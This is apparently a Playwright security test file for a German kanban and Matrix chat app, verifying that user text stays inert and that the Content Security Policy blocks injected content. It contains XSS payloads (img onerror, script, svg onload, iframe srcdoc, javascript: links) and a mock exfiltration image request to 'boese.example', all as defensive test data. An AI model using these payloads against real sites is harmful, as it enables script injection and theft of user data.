import type { Page } from '@playwright/test';
import { theWorld } from './world/world';
import { bodyOf, relatesTo } from './support/room';
import { expect, test } from './support/story';

// What people type is text, wherever it is shown. Each of these would leave a trace, an element or
// `stolen`, if anything took it for more.
const hostile = {
  image: '<img src=x onerror="globalThis.stolen=1">',
  script: '<script>globalThis.stolen=1</script>',
  vector: '"><svg/onload=globalThis.stolen=1>',
  frame: '<iframe srcdoc="<script>parent.stolen=1</script>">',
  link: '<a href="javascript:globalThis.stolen=1">Öffnen</a>',
  markdown: '[Öffnen](javascript:globalThis.stolen=1) `**x**` &lt;b&gt; {{7*7}} ${7*7}',
};
const traces =
  'img[src="x"], [onerror], [onload], [srcdoc], object, embed, script:not([src]), a[href^="javascript" i]';

async function expectNothing(page: Page): Promise<void> {
  for (const frame of page.frames()) {
    expect(await frame.evaluate(() => 'stolen' in globalThis), 'a script ran').toBe(false);
    expect(await frame.locator(traces).count(), 'elements that a text became').toBe(0);
  }
}

test('what people write is shown as they wrote it and never taken for anything else', async ({
  stage,
}) => {
  const room = await stage.room({ partner: true, name: hostile.image });
  await room.mia.call('PUT', `profile/${encodeURIComponent(room.mia.id)}/displayname`, {
    displayname: hostile.script,
  });
  const anna = await (await stage.inElement(room, room.anna)).opened();
  const mia = await (await stage.byLink(room, room.mia)).opened();
  await anna.expectViewers(2);

  // A column and its title.
  await anna.view.getByRole('button', { name: 'Spalte hinzufügen' }).click();
  const column = anna.view.getByRole('textbox', { name: 'Titel der neuen Spalte' });
  await column.fill(hostile.vector);
  await column.press('Enter');
  await column.press('Escape');
  await mia.expectColumns(['Offen', 'In Arbeit', 'Erledigt', hostile.vector]);

  // A card with every field.
  await anna.add('Offen', hostile.image);
  await anna.open(hostile.image);
  const dialog = anna.view.getByRole('dialog'); // its name is the title, which changes
  await dialog.getByRole('textbox', { name: 'Titel' }).fill(hostile.link);
  await dialog.getByRole('button', { name: 'Beschreibung hinzufügen' }).click();
  await dialog
    .getByRole('textbox', { name: 'Beschreibung' })
    .fill(Object.values(hostile).join('\n'));
  await anna.pick(
    dialog.getByRole('combobox', { name: 'Schlagwort hinzufügen' }),
    `Neues Schlagwort „${hostile.frame}“`,
    hostile.frame,
  );
  await anna.pick(
    dialog.getByRole('combobox', { name: 'Person hinzufügen' }),
    hostile.script,
    'script',
  );
  await anna.close(dialog);
  await expect(mia.face(hostile.link)).toContainText(`Schlagwörter: ${hostile.frame}`);
  await expect(mia.face(hostile.link)).toContainText(hostile.script);

  // A comment from the chat, by somebody with a name like that.
  const message = await room.cardMessage(hostile.image);
  await room.mia.say(room.id, hostile.image, message.event_id);
  const theirs = await mia.open(hostile.link);
  await expect(theirs).toContainText(hostile.image);
  // Shown as Markdown it is still text, and leads nowhere.
  const { markdown, ...html } = hostile;
  const shown = theirs.getByRole('region', { name: 'Beschreibung' });
  for (const text of Object.values(html)) await expect(shown).toContainText(text);
  await expect(shown).toContainText(markdown.slice(0, markdown.indexOf('`')));
  await expect(shown.getByRole('link')).toHaveCount(0);
  await theirs.getByRole('button', { name: 'Beschreibung bearbeiten' }).click();
  await expect(theirs.getByRole('textbox', { name: 'Beschreibung' })).toHaveValue(
    Object.values(hostile).join('\n'),
  );

  // The filter, the list of viewers, and what the page says about a change.
  await anna.view.getByRole('button', { name: '2 Personen sehen zu' }).click();
  await expect(anna.view.getByRole('dialog', { name: '2 Personen sehen zu' })).toContainText(
    hostile.script,
  );
  await anna.page.keyboard.press('Escape');
  await mia.close(theirs);
  await mia.choose(mia.cardMenu(hostile.link), 'Löschen');
  await expect(mia.toast(`„${hostile.link}“ gelöscht`)).toBeVisible();
  await anna.expectCards('Offen', []);
  await expectNothing(anna.page);
  await expectNothing(mia.page);
});

test('what the bot repeats in the chat holds no markup of theirs', async ({ stage }) => {
  const room = await stage.room({ name: hostile.image });
  const asked = await room.anna.say(room.id, `!karte neu ${hostile.image} ${hostile.script} #<b>`);
  const card = await room.anna.event(
    (e) => e.sender === theWorld().bot && relatesTo(e, asked),
    'the card',
  );
  expect(bodyOf(card)).toContain(hostile.image);
  const listed = await room.anna.say(room.id, '!karte liste <svg/onload=x>');
  const list = await room.anna.event(
    (e) => e.sender === theWorld().bot && relatesTo(e, listed),
    'the list',
  );
  for (const answer of [card, list]) {
    const html = JSON.stringify([answer.content, answer.content['m.new_content'] ?? {}]);
    const formatted = [...html.matchAll(/"formatted_body":"((?:[^"\\]|\\.)*)"/g)].map((m) => m[1]);
    expect(formatted.length).toBeGreaterThan(0);
    for (const text of formatted) expect(text).not.toMatch(/<(img|script|svg|b>|iframe)/i);
  }
});

test('an address made by somebody else becomes no markup, and a bad Matrix ID neither', async ({
  stage,
}) => {
  const page = await stage.page();
  const address = [hostile.image, hostile.script, 'javascript:globalThis.stolen=1']
    .map((text) => encodeURIComponent(text))
    .join('&theme=');
  await page.goto(`${theWorld().werkraum}/#/?lang=${address}&room=${address}`);
  const field = page.getByRole('textbox', { name: /Matrix/ });
  await field.fill(hostile.image);
  await field.press('Enter');
  await expect(page.getByText(/@name:/)).toBeVisible();
  await expectNothing(page);
  await page.goto(`${theWorld().werkraum}/#/link?token=${address}&lang=de`);
  // The page begins anew with another address: its last view counts, not the one before.
  await expect(page.getByRole('main')).toContainText('Dieser Link wurde schon benutzt');
  await expectNothing(page);
});

test('the browser runs no script that stands in the page and makes no markup of a text', async ({
  browser,
}) => {
  // Not through a stage, for which every such report of the browser is a defect.
  const page = await browser.newPage();
  await page.goto(theWorld().werkraum);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const violated: string[] = [];
    Object.assign(globalThis, { violated });
    document.addEventListener('securitypolicyviolation', (e) => {
      violated.push(e.effectiveDirective);
    });
    const tried = (attempt: () => unknown): string => {
      try {
        attempt();
        return 'done';
      } catch (error) {
        return error instanceof Error ? error.name : 'odd';
      }
    };
    const tries = [
      tried(() => {
        document.body.innerHTML += '<img src=x>';
      }),
      tried(() => {
        const script = document.createElement('script');
        script.append('globalThis.stolen = 1');
        document.head.append(script);
      }),
      tried(() => {
        const style = document.createElement('style');
        style.textContent = 'body { display: none }';
        document.head.append(style);
      }),
      tried(() => {
        const frame = document.createElement('iframe');
        frame.src = 'https://boese.example/';
        document.body.append(frame);
      }),
      tried(() => {
        const image = new Image();
        image.src = 'https://boese.example/?geheim';
        document.body.append(image);
      }),
      await fetch('https://boese.example/').then(
        () => 'done',
        () => 'refused',
      ),
    ];
    return {
      tries,
      stolen: 'stolen' in globalThis,
      shown: getComputedStyle(document.body).display,
    };
  });
  expect(outcome.tries[0]).toBe('TypeError');
  expect(outcome.tries[5]).toBe('refused');
  expect(outcome.stolen).toBe(false);
  expect(outcome.shown).not.toBe('none');
  for (const directive of [
    'require-trusted-types-for',
    'style-src-elem',
    'frame-src',
    'img-src',
    'connect-src',
  ]) {
    await expect
      .poll(() => page.evaluate(() => String((globalThis as { violated?: string[] }).violated)))
      .toContain(directive);
  }
  await page.close();
});

test('the page as it was built holds no script or style of its own, and makes none of a text', async ({
  request,
}) => {
  const { werkraum } = theWorld();
  const html = await (await request.get(werkraum)).text();
  expect(html).not.toMatch(/<script(?![^>]*\bsrc=)|<style|\son[a-z]+=|\sstyle=|javascript:/i);
  const assets = [...html.matchAll(/(?:src|href)="(\/assets\/[^"]+)"/g)].map(
    (match) => match[1] ?? '',
  );
  const seen = new Set(assets);
  for (const asset of seen) {
    const text = await (await request.get(werkraum + asset)).text();
    for (const [, name] of text.matchAll(/["'`]\.?\/?(?:assets\/)?([\w-]+-[\w-]{8}\.js)["'`]/g)) {
      if (name) seen.add(`/assets/${name}`); // the parts that are loaded later
    }
    expect(text, asset).not.toMatch(/\beval\(|new Function\(/);
  }
  expect(seen.size).toBeGreaterThan(3);
});
